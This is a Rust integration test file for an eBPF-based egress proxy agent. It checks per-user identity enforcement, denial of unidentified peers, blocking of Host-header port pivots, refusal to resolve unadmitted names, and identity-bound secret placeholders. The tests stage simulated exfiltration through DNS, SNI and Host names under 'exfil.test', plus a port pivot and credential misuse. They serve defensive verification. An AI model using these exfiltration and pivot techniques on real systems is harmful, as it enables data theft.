//! Issue 11 (kernel boundary), items 1, 2 and 15, end to end as root with governed test users:
//! a workload that connects to the agent's own listeners is served with exactly its own
//! identity (as the kernel recorded it), a redirected connection's port cannot be changed with
//! `Host`, and the agent never looks up a name no policy admits.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use hickory_proto::rr::RecordType;
use iron_agent_tests::TestCa;
use iron_agent_tests::dns::{Answer, FakeDns};
use iron_agent_tests::ebpf_world::{API_KEY, World, curl, intercept, py, py_as_root};
use iron_agent_tests::netns::{TestCgroup, TestUser};
use serde_json::json;

const WHY: &str = "eBPF programs, test users, a cgroup, a network namespace";

/// Python: one HTTP/1.1 request to `addr` (IPv6 socket for a `[..]` address) with `Host: host`;
/// prints the status code, or the errno name when the connection fails.
pub(crate) fn py_http(addr: &str, port: u16, host: &str, path: &str) -> String {
    let fam = if addr.contains(':') {
        "AF_INET6"
    } else {
        "AF_INET"
    };
    format!(
        "import socket,errno\ns=socket.socket(socket.{fam},socket.SOCK_STREAM)\ns.settimeout(10)\ntry:\n  s.connect(('{addr}',{port}))\n  s.sendall(b'GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n')\n  d=b''\n  while True:\n    c=s.recv(65536)\n    if not c: break\n    d+=c\n  print(d.split(b' ')[1].decode() if d else 'empty')\nexcept OSError as e:\n  print(errno.errorcode.get(e.errno,str(e)))"
    )
}

/// Python: `CONNECT target` on the tunnel listener; prints the status code.
fn py_connect_tunnel(port: u16, target: &str) -> String {
    format!(
        "import socket\ns=socket.create_connection(('127.0.0.1',{port}),10)\ns.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')\nprint(s.recv(4096).split(b' ')[1].decode())"
    )
}

/// Python: SOCKS5 (no auth) CONNECT to `host`:443 on the tunnel listener; prints the reply
/// code (0 = succeeded, 2 = not allowed by ruleset).
fn py_socks(port: u16, host: &str) -> String {
    format!(
        "import socket,struct\ns=socket.create_connection(('127.0.0.1',{port}),10)\ns.sendall(b'\\x05\\x01\\x00')\nassert s.recv(2)==b'\\x05\\x00'\nh=b'{host}'\ns.sendall(b'\\x05\\x01\\x00\\x03'+bytes([len(h)])+h+struct.pack('>H',443))\nprint(s.recv(10)[1])"
    )
}

/// Python: one UDP DNS query (A `name`) to `addr`:`port`; prints the rcode or the errno name.
fn py_dns(addr: &str, port: u16, name: &str) -> String {
    format!(
        "import socket,struct,errno\nq=struct.pack('>HHHHHH',7,0x0100,1,0,0,0)+b''.join(bytes([len(p)])+p.encode() for p in '{name}'.split('.'))+b'\\x00'+struct.pack('>HH',1,1)\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5)\ntry:\n  s.sendto(q,('{addr}',{port})); print(s.recv(4096)[3]&15)\nexcept OSError as e:\n  print(errno.errorcode.get(e.errno,str(e)))"
    )
}

#[test]
fn direct_connections_get_exactly_their_own_identity() {
    let Some(world) = World::enter(WHY) else {
        return;
    };
    let u1 = TestUser::ensure("iatest1");
    let u2 = TestUser::ensure("iatest2");
    let u3 = TestUser::ensure("iatest3");
    let u4 = TestUser::ensure("iatest4");
    let cg = TestCgroup::create("iatest-ident-cg");
    let mitm = TestCa::new("ident MITM CA");
    let mut cfg = world.config(&mitm);
    // Dual-stack: IPv4 clients reach it as `::ffff:127.0.0.1` (recorded by the kernel), and it
    // is reachable from the namespace too (not recorded).
    cfg.proxy.tunnel_listen = Some("[::]:0".into());
    cfg.intercept = Some(intercept(json!({
        "governed": {"users": ["iatest1"]},
        "deny": {"users": ["iatest3"]},
        "policies": [
            {
                "name": "restricted",
                "users": ["iatest2"],
                "transforms": [{"name": "allowlist", "config": {"domains": ["other.test"]}}],
            },
            {
                "name": "cgonly",
                "cgroups": [cg.path.to_string_lossy()],
                "transforms": [{"name": "allowlist", "config": {"domains": ["other.test"]}}],
            },
        ],
    })));
    let agent = world.start_agent(&cfg);
    let http = agent.addr("http").port();
    let tunnel = agent.addr("tunnel").port();
    let dns = agent.addr("dns").port();

    // A `deny` identity gets nothing: 403 on the HTTP listener, refusals on the tunnel, and
    // no DNS at all (neither the agent's nor a local resolver).
    assert_eq!(
        py(
            &u3,
            &py_http("127.0.0.1", http, "api.test:8080", "/denied-direct")
        ),
        "403"
    );
    let a = agent.audit_where(|a| a["path"] == "/denied-direct");
    assert_eq!(a["reason"], "identity_denied");
    assert_eq!(a["uid"], u3.uid);
    let https = agent.addr("https").port();
    let (_, code, out) = curl(
        &u3,
        &world.mitm_ca(),
        &["--resolve", &format!("api.test:{https}:127.0.0.1")],
        &format!("https://api.test:{https}/denied-tls"),
    );
    assert_eq!(code, "403", "{out}");
    let a = agent.audit_where(|a| a["path"] == "/denied-tls");
    assert_eq!(a["reason"], "identity_denied");
    assert_eq!(py(&u3, &py_connect_tunnel(tunnel, "api.test:443")), "403");
    assert_eq!(py(&u3, &py_socks(tunnel, "api.test")), "2");
    assert_eq!(py(&u3, &py_dns("127.0.0.1", dns, "api.test")), "EPERM");
    assert_eq!(py(&u3, &py_dns("127.0.0.53", 53, "api.test")), "EPERM");
    // Control: a governed user does get DNS answers from the agent directly.
    assert_eq!(py(&u1, &py_dns("127.0.0.1", dns, "api.test")), "0");

    // A policy bound only to a cgroup is recognised on a direct connection (uid iatest4 has
    // no rule of its own: before, it got the top-level pipeline, which allows api.test).
    let out = cg.py(&u4, &py_http("127.0.0.1", http, "api.test:8080", "/cg"));
    assert_eq!(out, "403");
    let a = agent.audit_where(|a| a["path"] == "/cg");
    assert_eq!(a["policy"], "cgonly");
    assert_eq!(a["uid"], u4.uid);
    assert_eq!(a["comm"], "python3");
    let out = cg.py(&u4, &py_connect_tunnel(tunnel, "api.test:443"));
    assert_eq!(out, "403");

    // An IPv6 socket to `::ffff:127.0.0.1` on the IPv4 listener is identified too.
    assert_eq!(
        py(
            &u2,
            &py_http("::ffff:127.0.0.1", http, "api.test:8080", "/mapped")
        ),
        "403"
    );
    let a = agent.audit_where(|a| a["path"] == "/mapped");
    assert_eq!(a["policy"], "restricted");
    assert_eq!(a["uid"], u2.uid);
    assert_eq!(
        py(&u2, &py_http("127.0.0.1", http, "other.test:8080", "/u2ok")),
        "200"
    );

    // An exempt peer (root) gets the top-level pipeline.
    assert_eq!(
        py_as_root(&py_http("127.0.0.1", http, "api.test:8080", "/root")),
        "200"
    );
    let a = agent.audit_where(|a| a["path"] == "/root");
    assert_eq!(a["uid"], 0);

    // A peer the kernel recorded nothing for (here: from another network namespace) is
    // refused, not given the top-level pipeline.
    let (tx, rx) = std::sync::mpsc::channel();
    world.ns.spawn_in(move || {
        use std::io::{Read, Write};
        let addr: SocketAddr = (IpAddr::from([10, 231, 0, 1]), tunnel).into();
        let got = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5)).and_then(
            |mut s| {
                s.set_read_timeout(Some(Duration::from_secs(10)))?;
                s.write_all(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")?;
                let mut buf = [0u8; 256];
                let n = s.read(&mut buf)?;
                Ok(String::from_utf8_lossy(&buf[..n]).into_owned())
            },
        );
        tx.send(got.map_err(|e| e.to_string())).unwrap();
    });
    let reply = rx.recv_timeout(Duration::from_secs(20)).unwrap().unwrap();
    assert!(reply.starts_with("HTTP/1.1 403"), "{reply}");
    let a = agent.audit_where(|a| a["reason"] == "unidentified_peer");
    assert_eq!(a["host"], "api.test:443");
    assert!(a.get("uid").is_none_or(|u| u.is_null()), "{a}");
}

#[test]
fn host_cannot_pivot_a_redirected_connection_to_another_port() {
    let Some(world) = World::enter(WHY) else {
        return;
    };
    let u1 = TestUser::ensure("iatest1");
    let mitm = TestCa::new("pivot MITM CA");
    let agent = world.start_agent(&world.config(&mitm));
    let ca = world.mitm_ca();
    // The workload connects to api.test:443 but names port 8080 (a plain HTTP service on the
    // same host) in Host: the agent still dials 443, where the credential belongs.
    let (rc, code, out) = curl(
        &u1,
        &ca,
        &["-4", "-H", "Host: api.test:8080"],
        "https://api.test/pivot",
    );
    assert_eq!((rc, code.as_str()), (0, "200"), "{out}\n{}", agent.logs());
    assert!(out.contains(API_KEY), "answered by the 443 origin: {out}");
    let a = agent.audit_where(|a| a["path"] == "/pivot");
    assert_eq!(a["orig_dst"], "10.231.0.2:443");
    assert_eq!(a["host"], "api.test:8080");
    // Control: the service on 8080 exists and answers plain HTTP (reached by root directly).
    assert_eq!(
        py_as_root(&py_http("10.231.0.2", 8080, "api.test:8080", "/control")),
        "200"
    );
}

#[test]
fn names_no_policy_admits_are_never_resolved() {
    let Some(world) = World::enter(WHY) else {
        return;
    };
    let u2 = TestUser::ensure("iatest2");
    let mitm = TestCa::new("exfil MITM CA");
    // The upstream resolver records every name it is asked for.
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let log = asked.clone();
    let recorder = world.rt.block_on(FakeDns::start(30, move |name, qtype| {
        log.lock().unwrap().push(name.to_string());
        match (name, qtype) {
            ("other.test", RecordType::A) => Answer::Ips(vec!["10.231.0.2".parse().unwrap()]),
            ("other.test", _) => Answer::Ips(vec![]),
            _ => Answer::Ips(vec!["10.231.0.2".parse().unwrap()]),
        }
    }));
    let mut cfg = world.config(&mitm);
    cfg.dns.upstream_resolver = Some(recorder.addr.to_string());
    let agent = world.start_agent(&cfg);
    let ca = world.mitm_ca();

    // iatest2's policy allows only other.test. Names it never admits, sent as SNI (HTTPS) and
    // as Host (HTTP) on redirected connections, and asked of the agent's DNS server.
    let (_, code, out) = curl(
        &u2,
        &ca,
        &["--resolve", "secret-one.exfil.test:443:10.231.0.2"],
        "https://secret-one.exfil.test/x",
    );
    assert_eq!(code, "403", "{out}");
    let (_, code, out) = curl(
        &u2,
        &ca,
        &["-H", "Host: secret-two.exfil.test"],
        "http://10.231.0.2/y",
    );
    assert_eq!(code, "403", "{out}");
    let a = agent.audit_where(|a| a["path"] == "/y");
    assert_eq!(a["rejected_by"], "allowlist");
    assert_eq!(
        py(&u2, &py_dns("8.8.8.8", 53, "secret-three.exfil.test")),
        "3"
    );
    // Control: an admitted name is resolved through the same recorder.
    let (rc, code, out) = curl(&u2, &ca, &[], "https://other.test/ok");
    assert_eq!((rc, code.as_str()), (0, "200"), "{out}\n{}", agent.logs());
    let asked = asked.lock().unwrap().clone();
    assert!(asked.iter().any(|n| n == "other.test"), "{asked:?}");
    assert!(
        !asked.iter().any(|n| n.contains("exfil")),
        "the agent looked up names no policy admits: {asked:?}"
    );
    drop(recorder);
}

/// The real value of the identity-bound secret (issue 11 item 13).
const BOUND_VALUE: &str = "bound-real-value-3c9e";
const BOUND_PLACEHOLDER: &str = "bound-placeholder-9";

#[test]
fn a_placeholder_bound_to_another_identity_is_rejected() {
    let Some(world) = World::enter(WHY) else {
        return;
    };
    let u1 = TestUser::ensure("iatest1");
    let u4 = TestUser::ensure("iatest4");
    let mitm = TestCa::new("bound MITM CA");
    let mut cfg = world.config(&mitm);
    // Both users run the top-level pipeline; the secret serves iatest1 only.
    cfg.transforms
        .push(iron_agent_tests::Transform::secrets(json!([{
            "source": {"type": "env", "var": "BOUND_KEY"},
            "replace": {"proxy_value": BOUND_PLACEHOLDER, "match_headers": ["Authorization"]},
            "rules": [{"host": "api.test"}],
            "identities": {"users": ["iatest1"]},
        }])));
    cfg.intercept = Some(intercept(json!({
        "governed": {"users": ["iatest1", "iatest4"]},
    })));
    let agent = world
        .agent(&cfg)
        .env("BOUND_KEY", BOUND_VALUE)
        .start_attached();
    let ca = world.mitm_ca();
    let auth = format!("Authorization: Bearer {BOUND_PLACEHOLDER}");

    // The identity the secret is bound to: the placeholder is swapped for the real value.
    let (rc, code, out) = curl(&u1, &ca, &["-4", "-H", &auth], "https://api.test/mine");
    assert_eq!((rc, code.as_str()), (0, "200"), "{out}\n{}", agent.logs());
    assert!(
        out.contains(BOUND_VALUE),
        "not swapped for its owner: {out}"
    );

    // Another identity presenting the same placeholder: refused, nothing injected.
    let (_, code, out) = curl(&u4, &ca, &["-4", "-H", &auth], "https://api.test/theirs");
    assert_eq!(code, "403", "{out}");
    assert!(!out.contains(BOUND_VALUE), "{out}");
    let a = agent.audit_where(|a| a["path"] == "/theirs");
    assert_eq!(a["rejected_by"], "secrets", "{a}");
    assert!(a.to_string().contains("identity_mismatch"), "{a}");
    assert_eq!(a["uid"], u4.uid);
    // Without the placeholder the other identity is unaffected.
    let (rc, code, out) = curl(&u4, &ca, &["-4"], "https://api.test/plain");
    assert_eq!((rc, code.as_str()), (0, "200"), "{out}");
    assert!(!out.contains(BOUND_VALUE), "{out}");
    assert!(
        !agent.logs().contains(BOUND_VALUE),
        "credential value leaked into logs"
    );
}
